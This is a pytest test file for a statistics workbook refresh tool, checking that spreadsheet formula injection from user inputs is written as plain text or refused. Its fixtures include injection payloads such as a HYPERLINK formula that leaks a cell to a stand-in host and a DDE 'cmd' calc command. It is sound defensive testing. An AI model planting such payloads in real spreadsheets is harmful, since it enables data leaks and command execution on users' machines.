"""Nothing injected (issue 6): text from the user's inputs that reaches a cell and starts with =, +, - or @ is
written as text, never as a formula; the only formula cells of a refreshed workbook are the ones the layout
defines (`Formula` values of the refresh plan's layouts) and the user's own, untouched.

Formula cells are found in the saved package's XML (every <c> with an <f> child), independently of openpyxl.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from defusedxml import ElementTree

from migrelease.model.a1 import column_letter
from migrelease.sheets.blocks import Formula
from migrelease.model.problems import InputProblems
from migrelease.filedoor.refresh import refresh_workbook

from conftest import SAMPLE_DATA, SAMPLE_ETHNICITY
from issue6_workbooks import csv_rows, digest

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
REL = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
HOSTILE_GROUPS = {
    "Kazakh": "=2*21",
    "Russian": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "Ukrainian": "=cmd|' /C calc'!A0",
    "Uzbek": "+7-1",
    "Tatar": "-2+3",
    "German": "@SUM(1,2)",
    "Uyghur": "  =SUM(A1:A9)",  # leading blanks are trimmed: the text then starts with '='
}
HOSTILE_SETTINGS = {"Date of publication": "=NOW()", "Date of next publication": "+TODAY()",
                    "Contact details": "@HYPERLINK(\"http://example.invalid\")", "=evil": "-1+1"}
FORMULA_START = ("=", "+", "-", "@")


def formula_cells(path: Path) -> dict[tuple[str, str], str]:
    """(sheet, cell) -> formula text of every formula cell in the package, read from the XML."""
    with zipfile.ZipFile(path) as package:
        workbook = ElementTree.fromstring(package.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(package.read("xl/_rels/workbook.xml.rels"))
        targets = {rel.get("Id"): rel.get("Target") for rel in rels}
        found = {}
        for sheet in workbook.iter(MAIN + "sheet"):
            target = targets[sheet.get(REL + "id")]
            part = target.lstrip("/") if target.startswith("/") else "xl/" + target
            root = ElementTree.fromstring(package.read(part))
            for cell in root.iter(MAIN + "c"):
                formula = cell.find(MAIN + "f")
                if formula is not None:
                    found[(sheet.get("name"), cell.get("r"))] = "=" + (formula.text or "")
    return found


def layout_formulas(plan) -> tuple[dict[tuple[str, str], str], set[str]]:
    """The layout's formula cells and the names of the sheets the layout writes."""
    cells, sheets = {}, set()
    for layout in plan.layouts:
        sheets.add(layout.name)
        for block in layout.blocks:
            for r, row in enumerate(block.values):
                for c, value in enumerate(row):
                    if isinstance(value, Formula):
                        cells[(layout.name, f"{column_letter(block.column + c)}{block.row + r}")] = value.text
    return cells, sheets


@pytest.fixture(scope="module")
def hostile_workbook(tmp_path_factory):
    """A workbook whose Ethnicity group names and Settings values all look like formulas, refreshed once."""
    path = tmp_path_factory.mktemp("injection") / "release.xlsx"
    book = xlsxwriter.Workbook(str(path))
    data = book.add_worksheet("Data")
    for r, row in enumerate(csv_rows(SAMPLE_DATA)):
        for c, value in enumerate(row):
            data.write_string(r, c, value) if isinstance(value, str) else data.write_number(r, c, value)
    ethnicity = book.add_worksheet("Ethnicity")
    for r, row in enumerate(csv_rows(SAMPLE_ETHNICITY)):
        for c, value in enumerate(row):
            value = HOSTILE_GROUPS.get(value, value) if (r and c == 2) else value
            ethnicity.write_string(r, c, value) if isinstance(value, str) else ethnicity.write_number(r, c, value)
    settings = book.add_worksheet("Settings")
    settings.write_string("A4", "Setting")
    settings.write_string("B4", "Value")
    for r, (key, value) in enumerate(HOSTILE_SETTINGS.items(), start=4):
        settings.write_string(r, 0, key)
        settings.write_string(r, 1, value)
    mine = book.add_worksheet("My notes")
    mine.write_formula("A1", "=1+2", None, 3)
    mine.write_string("A2", "=not a formula, typed as text")
    book.close()
    before = formula_cells(path)
    plan = refresh_workbook(path)
    return path, plan, before


def test_formula_like_text_from_the_inputs_is_written_as_text(hostile_workbook):
    path, _, _ = hostile_workbook
    book = openpyxl.load_workbook(path)
    ethnic = {sheet_row[0].value for sheet_row in book["Ethnic"].iter_rows(min_row=7)}
    expected = {text.strip() for text in HOSTILE_GROUPS.values()}
    assert expected <= ethnic
    formulas = formula_cells(path)
    texts = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    if (sheet.title, cell.coordinate) not in formulas:
                        texts += 1
                        assert cell.data_type in ("s", "inlineStr", "str"), (sheet.title, cell.coordinate)
    assert texts >= len(expected)
    assert not any(text.strip() in formulas.values() for text in HOSTILE_GROUPS.values())
    # The cover quotes the settings after a label, as text.
    cover = [cell.value for cell in book["Cover"]["A"] if isinstance(cell.value, str)]
    assert "Date of publication: =NOW()" in cover
    assert f"Contact: Department of Population Statistics, {HOSTILE_SETTINGS['Contact details']}" in cover


def test_the_only_formula_cells_are_the_layouts_and_the_users_own(hostile_workbook):
    path, plan, before = hostile_workbook
    expected, generated = layout_formulas(plan)
    assert expected, "the layout defines the key indicators as formulas"
    found = formula_cells(path)
    in_generated = {key: text for key, text in found.items() if key[0] in generated}
    elsewhere = {key: text for key, text in found.items() if key[0] not in generated}
    assert in_generated == expected
    assert elsewhere == before == {("My notes", "A1"): "=1+2"}
    print(f"\n{len(expected)} formula cells, all defined by the layout; {len(elsewhere)} of the user's own kept")


def test_formula_like_text_in_the_data_is_refused_before_anything_is_written(tmp_path):
    rows = list(csv.reader(open(SAMPLE_DATA, encoding="utf-8")))
    rows[5][1] = "=HYPERLINK(\"http://example.invalid\",\"Abai region\")"
    rows[6][2] = "@cis"
    rows[7][3] = "+arrival"
    rows[8][4] = "=1+2"
    rows[9][0] = "-2026-01"
    data = tmp_path / "data.csv"
    with open(data, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    path = tmp_path / "release.xlsx"
    openpyxl.Workbook().save(path)
    before = digest(path)
    with pytest.raises(InputProblems) as error:
        refresh_workbook(path, data_csv=data)
    report = str(error.value)
    for line, column in ((6, "region"), (7, "flow"), (8, "direction"), (9, "people"), (10, "period")):
        assert re.search(rf"file 'data.csv', line {line}, column {column}: ", report), report
    assert digest(path) == before
